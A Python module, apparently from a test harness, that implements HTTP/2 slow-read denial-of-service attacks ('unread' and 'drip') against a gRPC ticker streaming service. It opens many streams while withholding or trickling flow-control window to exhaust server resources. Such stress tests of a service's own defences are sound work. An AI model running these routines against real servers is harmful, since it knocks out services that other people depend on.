"""Clients that ask for much and read nothing."""

import frames
from frames import V1, field, grpc
from peer import Peer, outcome, pump


def _greet(address, connections, window):
    peers = [Peer(address, window=window) for _ in range(connections)]
    pump(peers, 10, until=lambda: all(peer.greeted or peer.closed for peer in peers))
    return peers


BODIES = {
    "ticks": (V1 + "ListTicks", frames.list_ticks("RELIANCE", 10_000), True),
    "prices": (V1 + "GetLastPrices", grpc(b""), True),
    "instruments": (V1 + "ListInstruments", grpc(b""), True),
    "reflection": (frames.REFLECTION, grpc(field(4, "ticker.v1.TickerStreamService")), True),
    # 10,000 symbols without a character, each refused because of the tape.
    "refused": (frames.V1_STREAM, frames.subscribe([""] * 10_000, tape_id="another"), False),
}


def unread(address, begin, seconds, what, connections=20, streams=200, window=0, rounds=1):
    """Asks on every stream and leaves no window for the answer. Streams that the server ends are begun again up to
    `rounds` times."""
    path, body, end = BODIES[what]
    peers = _greet(address, connections, window)
    begin()
    for peer in peers:
        for _ in range(streams):
            peer.open(path, body, end)

    def again():
        for peer in peers:
            begun = peer.next_stream // 2
            if not peer.closed and begun < streams * rounds:
                for _ in range(min(streams - (begun - len(peer.ended)), streams * rounds - begun)):
                    peer.open(path, body, end)

    pump(peers, seconds, every=again if rounds > 1 else None)
    return outcome(peers)


def drip(address, begin, seconds, connections=5, streams=200):
    """Takes an answer of half a megabyte a byte at a time."""
    path, body, end = BODIES["ticks"]
    peers = _greet(address, connections, 0)
    begin()
    for peer in peers:
        for _ in range(streams):
            peer.open(path, body, end)

    def one_byte():
        for peer in peers:
            if not peer.closed and not peer.out:
                for stream in list(peer.windows):
                    peer.out += frames.window_update(stream, 1)

    # The requests go first.
    pump(peers, 2, until=lambda: not any(peer.waiting() for peer in peers))
    rest = seconds
    while rest > 0:
        one_byte()
        pump(peers, 0.5)
        rest -= 0.5
    return outcome(peers)


ATTACKS = {"unread": unread, "drip": drip}
